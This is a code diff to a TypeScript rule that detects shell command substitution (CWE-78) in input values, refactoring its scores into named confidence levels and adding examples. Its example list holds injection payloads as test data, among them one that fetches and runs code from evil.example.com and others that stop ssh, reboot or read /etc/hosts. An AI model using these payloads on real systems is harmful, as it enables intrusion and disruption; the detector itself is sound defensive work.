@@ -1,5 +1,6 @@
 import { endsValue, standsBesideValue } from '../../text/place.ts';
-import { introducer } from '../../tokenise/shell.ts';
+import { introducer } from '../../tokenise/shell-introducer.ts';
+import { confidence } from '../confidence.ts';
 import type { Match, ValueRule } from '../rule.ts';
 import type { Subject } from '../subject.ts';
 import { type Command, fit } from './command.ts';
@@ -13,7 +14,7 @@ export const substitution: ValueRule = {
   category: 'cmdi',
   cwe: 'CWE-78',
   severity: 'critical',
-  score: 90,
+  score: confidence.certain,
   message: 'makes a shell run a command and put its output in place',
   trigger: { literals: [['$(', '`', '<(', '>(']] },
   judge,
@@ -25,6 +26,13 @@ export const substitution: ValueRule = {
     'who$(echo am)i',
     '$(c""at /etc/hosts)',
     'bash <(curl -s http://evil.example.com/x)',
+    'a.png${x:-$(dmesg)}',
+    'x$(while whoami;do break;done)',
+    'x$(( $(reboot) + 2))',
+    'It is broken again.$(systemctl stop ssh)',
+    'x`! sleep 2`',
+    '$(. /etc/hosts)',
+    '1$(trap "ls -la /" 0)',
   ],
   lookalikes: [
     'Run `ls -la` in the folder, then `cat README.md` shows the text',
@@ -40,6 +48,8 @@ export const substitution: ValueRule = {
     '> `npm install --save @types/node`',
     '- [meta] export `./package.json` [`#9`](https://example.com/9)',
     '### `hostname`\n\n* `ip` {string}',
+    'Execute `find -type f | egrep -i "(jpg|png)$"` every 300 seconds',
+    '> See also: `jobs`, `bg`, `disown`.',
     '使用命令 `git add --intent-to-add` 标记新增文件',
   ],
 };
@@ -59,7 +69,7 @@ function judge(subject: Subject): Match | undefined {
     if (score > (best?.score ?? 0)) {
       best = { start: head.start, end: closing(text, command), score };
     }
-    if (score >= 90) break;
+    if (score >= confidence.certain) break;
   }
   return best;
 }
@@ -69,54 +79,84 @@ const closers = ')|;&';
 function closedScore(text: string, command: Command): number {
   const { head } = command;
   const isClosed = closers.includes(text.charAt(command.end));
-  if (command.hidden) return 94;
+  if (command.hidden) return confidence.certain;
+  const isPlaced = isPlacedAt(text, command) || isGlued(text, head.start);
+  if (command.structured && isPlaced && command.fit >= fit.weak) return confidence.certain;
   switch (command.fit) {
     case fit.full:
-      return standsBesideValue(text, head.start) || namesSecret(text, head.start, command.end)
-        ? 92
-        : 62;
+      return isPlaced || namesSecret(text, head.start, command.end)
+        ? confidence.certain
+        : confidence.hint;
     case fit.weak:
       if (developerTools.has(command.name) && !namesSecret(text, head.start, command.end))
-        return 50;
-      return (command.uses & use.english) === 0 && isClosed ? 86 : 40;
+        return confidence.hint;
+      return (command.uses & use.english) === 0 && isClosed ? confidence.strong : confidence.trace;
     case fit.sureAlone:
-      return isClosed || standsBesideValue(text, head.start) ? 88 : 60;
+      return isClosed || isPlaced ? confidence.strong : confidence.hint;
     case fit.alone:
-      return isClosed && standsBesideValue(text, head.start) && endsValue(text, command.end + 1)
-        ? 82
-        : 45;
+      return isClosed && isPlaced && endsValue(text, command.end + 1)
+        ? confidence.strong
+        : confidence.trace;
     case fit.aloneWord:
-      return isClosed && standsBesideValue(text, head.start) && endsValue(text, command.end + 1)
-        ? 72
-        : 35;
+      return isClosed && isPlaced && endsValue(text, command.end + 1)
+        ? confidence.likely
+        : confidence.trace;
     default:
       return 0;
   }
 }
 
+/** In a script that stands beside a value, or beside one itself. */
+function isPlacedAt(text: string, { chain, head }: Command): boolean {
+  return chain < head.start || standsBesideValue(text, head.start);
+}
+
+/**
+ * Right behind the last word of a plain sentence, to the end of the text: code that is shown stands
+ * apart, or in code.
+ */
+function isGlued(text: string, start: number): boolean {
+  return (
+    glue.test(text.charAt(start - 1)) &&
+    start < sentenceMax &&
+    plain.test(text.slice(0, start)) &&
+    closed.test(text)
+  );
+}
+
+const sentenceMax = 400;
+const glue = /[\p{L}.!?]/u;
+const plain = /^[\p{L}\d\s.,!?'-]{1,400}$/u;
+const closed = /[)`]$/;
+
 /** Markdown marks code with backticks: only a value that is nothing else is an attack. */
 function backtickScore(text: string, command: Command): number {
+  if (command.structured && isPlacedAt(text, command) && command.fit > fit.none) {
+    return confidence.certain;
+  }
   if (command.fit < fit.aloneWord) return 0;
   const close = text.indexOf('`', command.end);
   const end = close < 0 ? text.length : close + 1;
   const { start } = command.head;
-  if (documentPath.test(text.slice(start, end))) return 35;
-  if (isListed.test(text.slice(Math.max(0, start - 24), start))) return 35;
+  if (documentPath.test(text.slice(start, end))) return confidence.trace;
+  if (isListed.test(text.slice(Math.max(0, start - 24), start))) return confidence.trace;
   const isTool = developerTools.has(command.name) && !runsCode.test(text.slice(start, end));
-  if (isTool && !command.hidden && !namesSecret(text, start, end)) return 45;
+  if (isTool && !command.hidden && !namesSecret(text, start, end)) return confidence.trace;
   // A link of Markdown: [`name`](target).
   const isLink = text.charAt(end) === ']' || text.charAt(start - 1) === '[';
   const stands =
     !isLink &&
     !isInSentence(text, command.head.start, end) &&
-    standsBesideValue(text, command.head.start) &&
-    endsValue(text, end);
-  if (!stands) return command.hidden && command.fit === fit.full ? 60 : 35;
+    ((standsBesideValue(text, command.head.start) && endsValue(text, end)) || isGlued(text, start));
+  if (!stands)
+    return command.hidden && command.fit === fit.full ? confidence.hint : confidence.trace;
   if (command.fit === fit.aloneWord) {
     const isQuoted = quotes.includes(text.charAt(start - 1) || ' ');
-    return isQuoted && !text.slice(0, start).includes(' ') ? 72 : 35;
+    return (isQuoted && !text.slice(0, start).includes(' ')) || isGlued(text, start)
+      ? confidence.likely
+      : confidence.trace;
   }
-  return command.fit === fit.alone ? 80 : 90;
+  return command.fit === fit.alone ? confidence.strong : confidence.certain;
 }
 
 /** `./package.json` in marks of code: a file of a project, which nobody runs. */
